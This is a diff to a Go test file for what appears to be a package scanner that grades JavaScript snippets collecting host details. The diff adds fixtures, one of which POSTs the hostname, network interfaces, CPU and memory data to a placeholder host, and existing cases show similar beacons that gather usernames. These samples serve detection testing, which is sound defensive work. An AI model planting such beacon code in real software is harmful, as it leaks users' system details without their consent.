@@ -19,6 +19,10 @@ func TestFingerprint(t *testing.T) {
 		// fingerprint
 		{"telemetry", map[string]string{"index.js": `const os=require("os");post({h:os.hostname(),c:os.cpus(),m:os.totalmem(),r:os.release()})`}, finding.SeverityLow},
 		{"beacon_with_platform", map[string]string{"index.js": `const os=require("os");post({h:os.hostname(),u:os.userInfo().username,c:os.cpus(),r:os.release()})`}, finding.SeverityHigh},
+		// a monitoring endpoint answers with the host's figures; the same
+		// figures sent out by the server's file are reconnaissance
+		{"monitor_endpoint", map[string]string{"index.js": `const os=require("os");require("http").createServer((q,res)=>res.end(JSON.stringify({h:os.hostname(),i:os.networkInterfaces(),c:os.cpus(),m:os.totalmem()}))).listen(9615)`}, finding.SeverityMedium},
+		{"monitor_endpoint_posts", map[string]string{"index.js": `const os=require("os"),http=require("http");http.createServer(()=>{}).listen(1);http.request({host:"c.example.invalid",method:"POST"}).end(JSON.stringify({h:os.hostname(),i:os.networkInterfaces(),c:os.cpus(),m:os.totalmem()}))`}, finding.SeverityHigh},
 		// the user name twice (os.userInfo and $USER) is one fact
 		{"user_twice", map[string]string{"index.js": `const os=require("os");const u=process.env.USER||os.userInfo().username, home=os.homedir()`}, finding.SeverityLow},
 		{"host_env_and_user", map[string]string{"index.js": `const os=require("os");log(process.env.HOSTNAME, os.userInfo().username)`}, finding.SeverityMedium},
